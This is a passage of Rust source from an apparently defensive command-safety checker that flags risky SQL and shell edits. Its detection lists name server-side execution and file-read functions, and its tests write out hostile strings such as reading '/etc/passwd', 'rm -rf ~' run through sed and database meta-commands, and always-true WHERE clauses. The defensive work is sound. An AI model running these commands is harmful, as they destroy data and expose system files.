    // Spark's `INSERT OVERWRITE DIRECTORY 'gs://…'`, ClickHouse's table functions.
    let squeezed = &squeezed_all;
    const STORES: &[&str] =
        &["s3://", "s3a://", "gs://", "gcs://", "az://", "azure://", "abfs://", "abfss://", "wasb://", "wasbs://", "r2://", "http://", "https://", "hdfs://", "ftp://", "sftp://", "dbfs:/"];
    let to_store = STORES.iter().any(|s| squeezed.contains(&format!("to '{s}")) || squeezed.contains(&format!("to \"{s}")) || squeezed.contains(&format!("directory '{s}")));
    const EXPORTS: &[&str] = &[
        "insert into function",
        "table function",
        "into outfile",
        "into dumpfile",
        "load data local",
        "load_file(",
        "lo_export(",
        "export data",
        "unload (",
        "unload(",
        "query_export_to_s3",
        "aws_s3.",
        "external_location",
        "openrowset",
        "opendatasource",
        "create server",
        "postgres_fdw",
        "mysql_fdw",
        "dblink_connect",
        "engine = s3",
        "engine=s3",
        "engine = url",
        "engine=url",
        "location 's3",
        "location 'gs",
        "location 'abfs",
        "location 'wasb",
        "location 'hdfs",
        "location \"s3",
        "location \"gs",
        "pg_read_file(",
        "pg_read_binary_file(",
        "pg_ls_dir(",
    ];
    if to_store || EXPORTS.iter().any(|k| squeezed.contains(k)) {
        facts |= fact::EXPORTS_DATA;
    }
    const PROGRAMS: &[&str] = &[
        "to program",
        "from program",
        "cmdshell",
        "sys_exec(",
        "sys_eval(",
        "archive_command",
        "restore_command",
        "ssl_passphrase_command",
        "shared_preload_libraries",
        "session_preload_libraries",
        "local_preload_libraries",
        "sp_execute_external_script",
        "sp_oacreate",
        "dbms_scheduler",
        "executable(",
        "engine = executable",
        "engine=executable",
        "language plpython",
        "language plperlu",
        "language pltclu",
        "language plsh",
        "language c ",
        "as 'c:",
        "lo_import(",
        "create extension plpython",
        "load '",
        "xp_regwrite",
        "sp_configure",
    ];
    if PROGRAMS.iter().any(|k| squeezed.contains(k)) {
        facts |= fact::SERVER_PROGRAM;
    }
    // Accounts and roles made through a client's calls (MongoDB's `createUser`, `grantRolesToUser`,
    // Redis's `ACL SETUSER`).
    if ["createuser(", "updateuser(", "grantrolestouser(", "grantprivilegestorole(", "createrole(", "acl setuser", "config set requirepass", "config set protected-mode"]
        .iter()
        .any(|k| squeezed.contains(k))
    {
        facts |= fact::GRANTS_ACCESS;
    }
    // Snowflake's `REMOVE @stage/…` (`RM`): staged files deleted.
    if squeezed.split(';').any(|st| {
        let st = st.trim_start();
        st.starts_with("remove @") || st.starts_with("rm @")
    }) {
        facts |= fact::DROPS_OBJECTS;
    }
    // A table's history or retained versions removed: what time travel and a restore need.
    const HISTORY: &[&str] = &[
        "data_retention_time_in_days = 0",
        "data_retention_time_in_days=0",
        "expire_snapshots",
        "remove_orphan_files",
        "logretentionduration",
        "deletedfileretentionduration",
        "retentiondurationcheck.enabled = false",
        "retentiondurationcheck.enabled=false",
        "create or replace table",
        "create or replace transient table",
        "replace table ",
    ];
    if HISTORY.iter().any(|k| squeezed.contains(k)) {
        facts |= fact::DROPS_OBJECTS;
    }
    let code = sql_code(raw);
    for stmt in code.split(';') {
        let words: Vec<&str> = stmt.split(|c: char| c.is_whitespace() || c == '(' || c == ')' || c == ',').filter(|w| !w.is_empty()).collect();
        let Some(&first) = words.first() else { continue };
        let has = |w: &str| words.contains(&w);
        let second = words.get(1).copied().unwrap_or("");
        match first {
            // A grant that opens wide or hands power on: to everyone (`PUBLIC`, `allUsers`),
            // everything (`ALL`), an administrator's role, ownership, or the right to grant on.
            // (`GRANT SELECT ON t TO ROLE reporter`, a dbt project's everyday hook, is not.)
            "grant" | "revoke" | "deny"
                if second == "all"
                    || words.windows(2).any(|p| p == ["all", "privileges"] || p == ["to", "user"] || p == ["from", "user"])
                    || words.iter().any(|w| {
                        let w = w.trim_matches(['\'', '"', '`', '[', ']']);
                        matches!(
                            w,
                            "public"
                                | "allusers"
                                | "allauthenticatedusers"
                                | "ownership"
                                | "option"
                                | "account"
                                | "superuser"
                                | "accountadmin"
                                | "sysadmin"
                                | "securityadmin"
                                | "orgadmin"
                                | "useradmin"
                                | "dba"
                                | "root"
                                | "db_owner"
                                | "rds_superuser"
                                | "cloudsqlsuperuser"
                                | "azure_pg_admin"
                                | "admin"
                                | "administrator"
                                | "dbadmin"
                                | "pg_read_server_files"
                                | "pg_write_server_files"
                                | "pg_execute_server_program"
                                | "file"
                                | "super"
                                | "process"
                        ) || w.starts_with("roles/owner")
                            || w.starts_with("roles/editor")
                            || w.starts_with("roles/bigquery.admin")
                            || w.starts_with("'roles/") && w.contains("admin")
                    }) =>
            {
                facts |= fact::GRANTS_ACCESS
            }
            "alter" | "create" | "drop" => {
                // The object, past `OR REPLACE`, `IF [NOT] EXISTS`, `EXTERNAL`, `MATERIALIZED`.
                let object = words[1..]
                    .iter()
                    .copied()
                    .find(|w| {
                        !matches!(
                            *w,
                            "or" | "replace"
                                | "if"
                                | "not"
                                | "exists"
                                | "external"
                                | "temporary"
                                | "temp"
                                | "secure"
                                | "transient"
                                | "global"
                                | "local"
                                | "unique"
                                | "materialized"
                                | "storage"
                                | "api"
                                | "notification"
                                | "security"
                                | "network"
                                | "server"
                        )
                    })
                    .unwrap_or("");
                let accounts = matches!(second, "account" | "user" | "login" | "share" | "integration" | "policy")
                    || words[1..4.min(words.len())].iter().any(|w| matches!(*w, "integration" | "network" | "security"))
                    || (second == "role" && (first != "create" || words.iter().any(|w| matches!(*w, "superuser" | "createrole" | "bypassrls" | "admin" | "sysadmin"))))
                    || (first == "alter" && (words.windows(2).any(|p| p == ["owner", "to"]) || has("superuser") || has("password") || has("role") || has("bypassrls") || words.windows(2).any(|p| p == ["default", "privileges"])))
                    // Row-level security turned off: every row to whoever may read the table.
                    || (first == "alter" && has("security") && (has("disable") || has("no")));
                if accounts && first != "drop" {
                    facts |= fact::GRANTS_ACCESS;
                }
                if first == "create" && object == "stage" && words.iter().any(|w| w.starts_with("url")) {
                    facts |= fact::EXPORTS_DATA;
                }
                if first == "drop" || (first == "alter" && matches!(second, "table" | "schema" | "database") && (has("drop") || words.windows(2).any(|p| p == ["delete", "where"]))) {
                    facts |= fact::DROPS_OBJECTS;
                }
            }
            "truncate" | "purge" => facts |= fact::DROPS_OBJECTS,
            // Delta's history removed: what time travel and a restore need.
            "vacuum" if words.windows(2).any(|p| p[0] == "retain" && p[1].parse::<f64>().is_ok_and(|h| h < 168.0)) => facts |= fact::DROPS_OBJECTS,
            // A server-side `COPY t TO '/path'`: the server writes the file.
            "copy" if words.windows(2).any(|p| p[0] == "to" && p[1].starts_with('\'')) => facts |= fact::EXPORTS_DATA,
            "reassign" | "rename" if matches!(second, "owned" | "user") => facts |= fact::GRANTS_ACCESS,
            "set" if stmt.contains("retentiondurationcheck.enabled") && stmt.contains("false") => facts |= fact::DROPS_OBJECTS,
            // Replaces a table's or a partition's rows (Spark, Hive).
            "insert" if second == "overwrite" => facts |= fact::DROPS_OBJECTS,
            // A Snowflake unload (`COPY INTO 's3://…'`, `COPY INTO @stage FROM table`).
            "copy" if second == "into" && words.get(2).is_some_and(|w| w.starts_with('\'') || w.starts_with('@')) => facts |= fact::EXPORTS_DATA,
            "exec" | "execute" | "call" if words.iter().any(|w| w.starts_with("sp_add") && (w.contains("member") || w.contains("login") || w.contains("user"))) => facts |= fact::GRANTS_ACCESS,
            "set" if second == "password" => facts |= fact::GRANTS_ACCESS,
            _ => {}
        }
    }
    facts
}

pub fn changes_every_row(c: &crate::policy::shell::Cmd) -> bool {
    let program = c.program.as_str();
    if matches!(program, "redis-cli" | "valkey-cli" | "keydb-cli") {
        let deletes = c.args().iter().any(|w| w.text.eq_ignore_ascii_case("del") || w.text.eq_ignore_ascii_case("unlink"));
        return deletes && (c.wrappers.iter().any(|w| w.starts_with("xargs") || w.starts_with("parallel")) || c.stdin_from.is_some() || c.args().iter().any(|w| w.dynamic));
    }
    if !SQL_CLIENTS.contains(&program) {
        return false;
    }
    let mut text = String::new();
    for w in c.args() {
        text.push(' ');
        text.push_str(&w.text);
    }
    if let Some(s) = &c.stdin_text {
        text.push(' ');
        text.push_str(s);
    }
    let lower = text.to_ascii_lowercase();
    if !lower.contains("update") && !lower.contains("delete") && !lower.contains("many(") && !lower.contains("_all") {
        return false;
    }
    // Mongo's and an ORM's "every document": `updateMany({}, …)`, `User.delete_all`.
    let squeezed: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
    if ["updatemany({}", "deletemany({}", "update_all", "delete_all", "destroy_all", "updatemany({ }"].iter().any(|p| squeezed.contains(p)) {
        return true;
    }
    // Comments end with their word: an option (`--stdin`) is none, and a statement's comment
    // does not run on into the next argument.
    let mut code = String::new();
    for part in c.args().iter().map(|w| w.text.as_str()).filter(|t| !t.starts_with('-')).chain(c.stdin_text.as_deref()) {
        code.push_str(&sql_code(&part.to_ascii_lowercase()));
        code.push(' ');
    }
    code.split(';').any(|stmt| {
        let words: Vec<&str> = stmt.split(|c: char| c.is_whitespace() || c == '(' || c == ')' || c == ',').filter(|w| !w.is_empty()).collect();
        // `WHERE` that holds for every row (`1=1`, `true`, `1`) is no `WHERE`.
        let filtered = |rest: &[&str]| {
            rest.iter().position(|w| *w == "where").is_some_and(|at| {
                let cond: String = rest[at + 1..].concat();
                !(cond.is_empty() || matches!(cond.as_str(), "true" | "1" | "1=1" | "'1'='1'" | "1<>0" | "0=0" | "not false" | "1isnotnull") || cond.starts_with("1=1") || cond.starts_with("true"))
            })
        };
        match words.iter().position(|w| matches!(*w, "update" | "delete")) {
            Some(at) if words[at] == "update" => words[at + 1..].contains(&"set") && !filtered(&words[at + 1..]),
            // `DELETE FROM t`, `DELETE t` (T-SQL), `ALTER TABLE t DELETE WHERE 1`, `MERGE … THEN DELETE`.
            Some(at) => !filtered(&words[at + 1..]) || words.contains(&"merge"),
            None => false,
        }
    })
}

/// SQL as the server runs it, for the words of a statement to be read together: comments taken
/// out (`DROP/**/TABLE`) but for MySQL's executable ones (`/*!50000 DROP */`), whose text stays;
/// string pieces joined (`'DR' || 'OP'`, `'DR' 'OP'`); blanks collapsed.
pub fn sql_as_run(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("/*") {
        out.push_str(&rest[..at]);
        let body = &rest[at + 2..];
        let end = body.find("*/").unwrap_or(body.len());
        // (A comment separates words as a blank does: `DROP/**/TABLE`.)
        out.push(' ');
        if let Some(inner) = body[..end].strip_prefix('!') {
            out.push_str(inner.trim_start_matches(|c: char| c.is_ascii_digit()));
            out.push(' ');
        }
        rest = body.get(end + 2..).unwrap_or("");
    }
    out.push_str(rest);
    let out: String = out.lines().map(|l| l.split("-- ").next().unwrap_or(l)).collect::<Vec<_>>().join(" ");
    let mut joined = out.replace("'||'", "").replace("' || '", "").replace("'|| '", "").replace("' ||'", "").replace("' '", "");
    joined = joined.split_whitespace().collect::<Vec<_>>().join(" ");
    joined
}

/// SQL text with its comments (`-- …`, `/* … */`) and the contents of its string literals taken
/// out, so that a `WHERE` in either says nothing.
fn sql_code(text: &str) -> String {
    let b = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'-' if b.get(i + 1) == Some(&b'-') => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'/' if b.get(i + 1) == Some(&b'*') => {
                i += 2;
                while i + 1 < b.len() && !(b[i] == b'*' && b[i + 1] == b'/') {
                    i += 1;
                }
                i += 2;
                out.push(' ');
            }
            q @ (b'\'' | b'"' | b'`') => {
                out.push(' ');
                i += 1;
                while i < b.len() && b[i] != q {
                    i += 1;
                }
                i += 1;
                out.push_str("'x' ");
            }
            c => {
                out.push(c as char);
                i += 1;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_statements_do_beyond_rows() {
        use crate::policy::schema::fact::{DROPS_OBJECTS as D, EXPORTS_DATA as X, GRANTS_ACCESS as G, SERVER_PROGRAM as P};
        for (sql, want) in [
            ("grant usage on schema s to public", G),
            ("revoke all on t from analyst", G),
            ("alter user bob set password = 'x'", G),
            ("create user svc identified by 'p'", G),
            ("alter account unset network_policy", G),
            ("create role ops superuser", G),
            ("alter table t owner to mallory", G),
            ("alter share s add accounts = xy123", G),
            ("exec sp_addsrvrolemember 'u', 'sysadmin'", G),
            ("copy into 's3://b/p/' from t", X),
            ("copy into @ext/p from (select * from t)", X),
            ("export data options(uri='gs://b/*') as select 1", X),
            ("select * into outfile '/tmp/x' from t", X),
            ("load data local infile '/etc/passwd' into table t", X),
            ("copy t to 's3://bucket/t.parquet'", X),
            ("create or replace stage st url='s3://b/'", X),
            ("copy (select 1) to program 'id'", P),
            ("drop materialized view mv", D),
            ("alter table t drop partition (d='2024')", D),
            ("insert overwrite table t select 1", D),
            ("vacuum t retain 0 hours", D),
            ("truncate t", D),
            ("select 1; drop stage s", D),
            ("select * from t where a = 'grant all to public'", 0),
            ("create role analyst", 0),
            ("create table t (a int)", 0),
            ("copy into t from @stage", 0),
            ("vacuum t retain 168 hours", 0),
            ("select * from t where c = 'copy into @x'", 0),
        ] {
            assert_eq!(sql_statement_facts(sql), want, "{sql}");
        }
    }

    #[test]
    fn like_patterns_say_nothing() {
        assert_eq!(without_like_patterns("select 1 where q ilike '%drop table%'"), "select 1 where q ilike ''");
        assert_eq!(without_like_patterns("where a LIKE \"x\" and b not like 'drop database'; drop table t"), "where a LIKE \"\" and b not like ''; drop table t");
        // A quote the server reads as escaped ends the pattern later, never sooner: the text
        // after the first quote stays.
        assert!(without_like_patterns("where a like 'it''s'; drop table t; --'").contains("drop table t"));
        assert_eq!(without_like_patterns("unlikely drop table"), "unlikely drop table");
    }

    #[test]
    fn sed_commands() {
        for s in ["e", "1e", "s/x/y/e", "s|x|y|ge", "/re/e rm -rf ~", "1!e id", "s/a/b/;e id", "$e"] {
            assert!(sed_runs_command(s), "{s}");
        }
        for s in ["s/x/y/g", "s/e/E/", "/e/d", "s/x/e/w out.txt", "y/abc/xyz/", "1d;$d", "a hello e", "s/\\/e/x/", "/^#/!s/x/y/", "-n"] {
            assert!(!sed_runs_command(s), "{s}");
        }
    }

    #[test]
    fn awk_programs() {
        for s in ["BEGIN{system(\"id\")}", "{print | \"sh\"}", "{\"date\" | getline d}", "{print |& \"cmd\"}", "BEGIN { system (x) }"] {
            assert!(awk_runs_command(s), "{s}");
        }
        for s in ["{print $1}", "/a|b/ {print}", "{print \"a|b\"}", "{print \"system(x)\"}", "$1 == \"x\" || $2 == \"y\"", "{ x = a / b; y = c / d }", "# system(x)\n{print}", "{print $NF}"] {
            assert!(!awk_runs_command(s), "{s}");
        }
    }

    #[test]
    fn meta_commands() {
        assert_eq!(sqlite(&Word::lit(".shell rm -rf ~")), vec![Code::Shell(Word::lit("rm -rf ~"))]);
        assert_eq!(psql(&Word::lit("select 1; \\! rm -rf ~")), vec![Code::Shell(Word::lit("rm -rf ~"))]);
        assert_eq!(mysql(&Word::lit("system rm -rf ~")), vec![Code::Shell(Word::lit("rm -rf ~"))]);
        assert!(sqlite(&Word::lit("select * from t")).is_empty());
        assert!(psql(&Word::lit("select 1")).is_empty());
    }
}

/// The backslash escapes of printf's format and of `echo -e` (`\n`, `\t`, `\\`, `\NNN` or
/// `\0NNN` octal, `\xHH`); `None` at `\c` (which stops output: what follows is not printed,
/// and ana does not follow that) or an escape it does not know.
fn unescape(s: &str, octal_zero: bool) -> Option<String> {
    let b = s.as_bytes();
    let mut out: Vec<u8> = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'\\' || i + 1 == b.len() {
            out.push(b[i]);
            i += 1;
            continue;
        }
        let c = b[i + 1];
        i += 2;
        match c {
            b'n' => out.push(b'\n'),
            b't' => out.push(b'\t'),
            b'r' => out.push(b'\r'),
            b'a' => out.push(7),
            b'b' => out.push(8),
            b'f' => out.push(12),
            b'v' => out.push(11),
            b'e' | b'E' => out.push(27),
            b'\\' => out.push(b'\\'),
            b'"' => out.push(b'"'),
            b'\'' => out.push(b'\''),
            b'x' => {
                let digits: Vec<u8> = b[i..].iter().take(2).take_while(|d| d.is_ascii_hexdigit()).copied().collect();
                if digits.is_empty() {
                    return None;
                }
                i += digits.len();
                out.push(u8::from_str_radix(std::str::from_utf8(&digits).ok()?, 16).ok()?);
            }
            b'0'..=b'7' => {
                // `\NNN` in a format; `\0NNN` in `echo -e` and `%b`.
                let (start, max) = if octal_zero && c == b'0' { (i, 3) } else { (i - 1, 3) };
                let digits: Vec<u8> = b[start..].iter().take(max).take_while(|d| (b'0'..=b'7').contains(d)).copied().collect();
                i = start + digits.len();
                let v = if digits.is_empty() { 0 } else { u32::from_str_radix(std::str::from_utf8(&digits).ok()?, 8).ok()? };
                out.push((v & 0xff) as u8);
            }
            _ => return None,
        }
    }
    String::from_utf8(out).ok()
}

/// What `printf FORMAT ARGS…` prints: a format of plain text, backslash escapes, and `%s`, `%b`,
/// `%d`, `%c`, `%%` without widths (the format is used again while arguments are left, as
/// printf does); `None` for what ana does not work out.
pub fn printf_output(format: &str, args: &[&str]) -> Option<String> {
    let format = unescape(format, false)?;
    let specs = format.matches('%').count();
    let mut out = String::new();
    let mut next = 0;
    loop {
        let mut chars = format.chars().peekable();
        while let Some(ch) = chars.next() {
            if ch != '%' {
                out.push(ch);
                continue;
            }
            let spec = chars.next()?;
            let arg = || args.get(next).copied().unwrap_or("");
            match spec {
                '%' => {
                    out.push('%');
                    continue;
                }
                's' => out.push_str(arg()),
                'b' => out.push_str(&unescape(arg(), true)?),
                'c' => out.extend(arg().chars().next()),
                'd' | 'i' | 'u' => {
                    let a = arg();
                    if a.is_empty() {
                        out.push('0');
                    } else if a.bytes().all(|b| b.is_ascii_digit()) {
                        out.push_str(a);
                    } else {
                        return None;
                    }
                }
                _ => return None,
            }
            next += 1;
        }
        if specs == 0 || next >= args.len() || out.len() > 64 * 1024 {
            break;
        }
    }
    Some(out)
}

/// What `printf [--] FORMAT ARGS…` prints, given its arguments after the name; `None` for `-v
/// NAME` (which prints nothing) or what [`printf_output`] does not work out. Another word that
/// looks like an option is taken as the format, as `/usr/bin/printf` takes it (the shell's own
/// refuses it and prints nothing: the reading that finds more is kept).
pub fn printf_command(args: &[&str]) -> Option<String> {
    let args = match args.split_first() {
        Some((&"--", rest)) => rest,
        Some((&"-v", _)) => return None,
        _ => args,
    };
    let (format, rest) = args.split_first()?;
    printf_output(format, rest)
}

/// What `echo ARGS…` prints under bash: `-n`, `-e`, `-E` and their clusters first; a backslash
/// without `-e` or `-E` is `None` (sh's echo reads escapes where bash's does not).
pub fn echo_output(args: &[&str]) -> Option<String> {
    let mut escapes = None;
    let mut newline = true;
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if a.len() > 1 && a.starts_with('-') && a[1..].bytes().all(|b| matches!(b, b'n' | b'e' | b'E')) {
            for b in a[1..].bytes() {
                match b {
                    b'n' => newline = false,
                    b'e' => escapes = Some(true),
                    _ => escapes = Some(false),
                }
            }
            i += 1;
        } else {
            break;
        }
    }
    let text = args[i..].join(" ");
    let mut out = match escapes {
        Some(true) => unescape(&text, true)?,
        None if text.contains('\\') => return None,
        _ => text,
    };
    if newline {
        out.push('\n');
    }
    Some(out)
}

/// One change `sed -i` makes: `text` added as a line of its own (`pattern` `None`), or put in
/// place of `pattern` (an `s` command's).
#[derive(Debug, PartialEq, Eq)]
pub struct SedEdit {
    pub pattern: Option<String>,
    pub text: String,
}

/// What `sed -i` (GNU's in-place edit) puts in the files it edits, from its script's own text
/// or the script file it is given (`-f`, read with `read`): an added line for the text of its
/// `a`, `i` and `c` commands and for what its `r`/`R` commands read in, a replacement for its `s`
/// commands (delimiters unescaped, `&` dropped); and the files. `None` when it does not edit in
/// place or its script cannot be read.
pub fn sed_in_place(args: &[&str], read: &dyn Fn(&str) -> Option<String>) -> Option<(Vec<SedEdit>, Vec<String>)> {
    let (mut in_place, mut scripts, mut files) = (false, Vec::<std::borrow::Cow<str>>::new(), Vec::new());
    let mut i = 0;
    while i < args.len() {
        let a = args[i];
        if a == "--" {
            files.extend(args[i + 1..].iter().map(|s| (*s).to_owned()));
            break;
        }
        if a == "-e" || a == "--expression" {
            scripts.push((*args.get(i + 1)?).into());
            i += 2;
            continue;
        }
        if a == "-f" || a == "--file" {
            scripts.push(read(args.get(i + 1)?)?.into());
            i += 2;
            continue;
        }
        if let Some(e) = a.strip_prefix("--expression=") {
            scripts.push(e.into());
        } else if let Some(f) = a.strip_prefix("--file=") {
            scripts.push(read(f)?.into());
        } else if a.starts_with("--in-place") {
            in_place = true;
        } else if a.starts_with("--") {
        } else if a.starts_with('-') && a.len() > 1 {
            // `-i`, `-i.bak`, `-Ei`, `-ni`: a cluster with `i` (what follows `i` is a suffix).
            let flags = &a[1..];
            if flags.contains('i') && flags[..flags.find('i').unwrap_or(0)].bytes().all(|b| b"Enrsuz".contains(&b)) {
                in_place = true;
            }
            if flags.ends_with('e') {
                scripts.push((*args.get(i + 1)?).into());
                i += 1;
            } else if flags.ends_with('f') {
                scripts.push(read(args.get(i + 1)?)?.into());
                i += 1;
            }
        } else if scripts.is_empty() && !args[..i].iter().any(|x| *x == "-e" || x.starts_with("--expression") || *x == "-f" || x.starts_with("--file")) {
            scripts.push(a.into());
        } else {
            files.push(a.to_owned());
        }
        i += 1;
    }
    if !in_place || scripts.is_empty() {
        return None;
    }
    let mut added = Vec::new();
    // GNU sed joins its `-e` scripts with newlines (`-e '1a\' -e 'text'`).
    let joined = scripts.iter().map(|s| s.as_ref()).collect::<Vec<&str>>().join("\n");
    for script in std::iter::once(&joined) {
        let mut lines = script.lines();
        while let Some(line) = lines.next() {
            let mut rest = line.trim_start();
            // The address: line numbers, `$`, `/re/`, a range, `!`.
            loop {
                let r = rest.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '$' | ',' | '~' | '+' | '!' | ' '));
                if let Some(body) = r.strip_prefix('/') {
                    let mut esc = false;
                    let end = body.char_indices().find(|&(_, c)| {
                        let hit = c == '/' && !esc;
                        esc = c == '\\' && !esc;
                        hit
                    });
                    rest = end.map_or("", |(k, _)| &body[k + 1..]);
                    continue;
                }
                rest = r;
                break;
            }
            let mut chars = rest.chars();
            match chars.next() {
                // `r FILE`, `R FILE`: the file's lines added (one unread adds what cannot be
                // cleared: its name, which no file's text is judged safe for).
                Some('r' | 'R') => {
                    let name = chars.as_str().trim();
                    if !name.is_empty() {
                        added.extend(lines_read_in(name, read));
                    }
                }
                Some('a' | 'i' | 'c') => {
                    let text = chars.as_str().trim_start();
                    let text = text.strip_prefix('\\').map_or(text, str::trim_start);
                    if text.is_empty() {
                        // `a\` then the text on the next line.
                        added.extend(lines.next().map(|l| SedEdit { pattern: None, text: l.trim_end_matches('\\').to_owned() }));
                    } else {
                        // GNU sed reads `\n` in the text as a new line.
                        added.extend(text.split("\\n").map(|l| SedEdit { pattern: None, text: l.to_owned() }));
                    }
                }
                Some('s') => {
                    let Some(d) = chars.next() else { continue };
                    // Split at the delimiters that are not escaped.
                    let mut parts = vec![String::new()];
                    let mut esc = false;
                    for ch in chars {
                        let last = parts.len() - 1;
                        if esc {
                            if ch != d {
                                parts[last].push('\\');
                            }
                            parts[last].push(ch);
                            esc = false;
                        } else if ch == '\\' {
                            esc = true;
                        } else if ch == d {
                            parts.push(String::new());
                        } else {
                            parts[last].push(ch);
                        }
                    }
                    if parts.len() >= 3 {
                        added.push(SedEdit { pattern: Some(parts[0].clone()), text: parts[1].replace("\\n", "\n").replace('&', "") });
                    }
                }
                _ => {}
            }
        }
    }
    (!added.is_empty() && !files.is_empty()).then_some((added, files))
}

/// What another in-place editor puts in the files it edits, near enough to judge it: the text of
/// `ed`'s and Ex's `a`/`i`/`c` commands (an `ed` script on stdin, `ex -c '1i|…'`, `vim -es +…`),
/// the replacements of their `s` commands, and the quoted strings of `perl -i`/`ruby -i` code,
/// each taken as an added line; and the files. `None` for anything else.
pub fn edits_in_place(program: &str, args: &[&str], stdin_text: Option<&str>, read: &dyn Fn(&str) -> Option<String>) -> Option<(Vec<SedEdit>, Vec<String>)> {
    let mut added = Vec::new();
    let mut files = Vec::new();
    match program {
        "sed" | "gsed" => return sed_in_place(args, read),
        "perl" | "ruby" => {
            // `-i`, `-pi`, `-i.bak`, `-pi -e CODE`: a cluster holding `i` edits in place.
            let in_place = args.iter().any(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].split('.').next().is_some_and(|f| f.contains('i') && f.bytes().all(|b| b"inpalw0".contains(&b))));
            if !in_place {
                return None;
            }
            let mut i = 0;
            let mut code = String::new();
            while i < args.len() {
                let a = args[i];
                if a == "-e" || a == "-E" || (a.starts_with('-') && !a.starts_with("--") && (a.ends_with('e') || a.ends_with('E'))) {
                    code.push_str(args.get(i + 1)?);
                    code.push('\n');
                    i += 2;
                    continue;
                }
                if !a.starts_with('-') {
                    if code.is_empty() {
                        // `perl -pi script.pl file`: the code is in a file.
                        code.push_str(&read(a)?);
                    } else {
                        files.push(a.to_owned());
                    }
                }
                i += 1;
            }
            for text in quoted_strings(&code) {
                added.extend(text.split('\n').filter(|l| !l.trim().is_empty()).map(|l| SedEdit { pattern: None, text: l.to_owned() }));
            }
            for edit in substitutions(&code) {
                added.push(edit);
            }
        }
        "ed" | "red" => {
            files.extend(args.iter().filter(|a| !a.starts_with('-')).map(|a| (*a).to_owned()));
            added = ed_script(stdin_text?, read);
        }
        "ex" | "vi" | "vim" | "nvim" | "view" | "rvim" => {
            let mut commands = Vec::new();
            let mut i = 0;
            while i < args.len() {
                let a = args[i];
                if let Some(c) = a.strip_prefix('+').filter(|c| !c.is_empty()) {
                    commands.push(c.to_owned());
                } else if a == "-c" || a == "--cmd" || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('c') && a[1..].bytes().all(|b| b.is_ascii_alphabetic())) {
                    commands.push((*args.get(i + 1)?).to_owned());
                    i += 1;
                } else if a == "-S" {
                    commands.extend(read(args.get(i + 1)?)?.lines().map(str::to_owned));
                    i += 1;
                } else if !a.starts_with('-') {
                    files.push(a.to_owned());
                }
                i += 1;
            }
            // An Ex script on stdin: `a`, `i`, `c` take the lines up to `.`, as ed's do.
            if let Some(script) = stdin_text {
                added.extend(ed_script(script, read));
                commands.extend(script.lines().map(str::to_owned));
            }
            for c in &commands {
                let pieces: Vec<&str> = c.split('|').collect();
                for (k, piece) in pieces.iter().enumerate() {
                    let cmd = piece.trim_start().trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '$' | ',' | '.' | ';' | '+' | '-' | '%' | ':'));
                    if let Some(text) = ["a", "i", "c", "append", "insert", "change"].iter().find_map(|k| cmd.strip_prefix(k).filter(|rest| rest.is_empty() || rest.starts_with([' ', '!']))) {
                        let text = text.trim_start_matches('!').trim();
                        // `1i|TEXT`: what follows the bar is the text, bars and all.
                        let text = if text.is_empty() { pieces[k + 1..].join("|") } else { text.to_owned() };
                        if !text.trim().is_empty() {
                            added.push(SedEdit { pattern: None, text: text.trim().to_owned() });
                        }
                        break;
                    } else if let Some(name) = cmd.strip_prefix("r ").or_else(|| cmd.strip_prefix("read ")) {
                        added.extend(lines_read_in(name.trim(), read));
                    } else if cmd.starts_with('s') || cmd.starts_with("g/") || cmd.starts_with("norm") {
                        added.extend(substitutions(cmd));
                        if let Some(keys) = cmd.strip_prefix("normal").or_else(|| cmd.strip_prefix("norm")) {
                            // `:normal Otext`: the keys typed, the text among them.
                            let keys = keys.trim_start_matches('!').trim();
                            let text = keys.trim_start_matches(['o', 'O', 'i', 'I', 'a', 'A', 'g', 'G', 'g']);
                            if !text.is_empty() {
                                added.push(SedEdit { pattern: None, text: text.to_owned() });
                            }
                        }
                    }
                }
            }
        }
        // `gawk -i inplace 'PROGRAM' FILE…`: the strings its program prints, each an added line.
        "awk" | "gawk" => {
            let k = args.windows(2).position(|p| p[0] == "-i" && matches!(p[1], "inplace" | "inplace.awk"))?;
            let rest: Vec<&str> = args[..k].iter().chain(&args[k + 2..]).copied().collect();
            let mut i = 0;
            let mut program = None;
            while i < rest.len() {
                match rest[i] {
                    "-v" | "-F" | "--assign" | "--field-separator" | "-i" | "--include" => i += 1,
                    "-e" | "--source" => {
                        program = rest.get(i + 1).copied();
                        i += 1;
                    }
                    a if a.starts_with('-') => {}
                    a if program.is_none() => program = Some(a),
                    a => files.push(a.to_owned()),
                }
                i += 1;
            }
            added.extend(quoted_strings(program?).into_iter().filter(|t| !t.trim().is_empty()).map(|text| SedEdit { pattern: None, text }));
        }
        // `sd FIND REPLACE FILE…`, `rpl OLD NEW FILE…`: a replacement.
        "sd" | "rpl" => {
            let pos: Vec<&str> = args.iter().copied().filter(|a| !a.starts_with('-')).collect();
            let [find, replace, rest @ ..] = pos.as_slice() else { return None };
            added.push(SedEdit { pattern: Some((*find).to_owned()), text: (*replace).to_owned() });
            files.extend(rest.iter().map(|f| (*f).to_owned()));
        }
        // `yq -i EXPR FILE`, `dasel put -f FILE -v VALUE …`, `crudini --set FILE SECTION KEY VALUE`,
        // `json -I -f FILE -e CODE`: the values they write, each as an added line.
        "yq" | "dasel" | "crudini" | "json" | "tomlq" | "toml" => {
            let in_place = match program {
                "yq" | "tomlq" => args.iter().any(|a| *a == "-i" || *a == "--inplace" || a.starts_with("--in-place") || (a.starts_with('-') && !a.starts_with("--") && a.contains('i'))),
                "dasel" => args.first().is_some_and(|a| matches!(*a, "put" | "-w")) || args.contains(&"put"),
                "crudini" => args.iter().any(|a| matches!(*a, "--set" | "--merge")),
                _ => args.contains(&"-I"),
            };
            if !in_place {
                return None;
            }
            let mut i = 0;
            while i < args.len() {
                let a = args[i];
                if matches!(a, "-f" | "--file") {
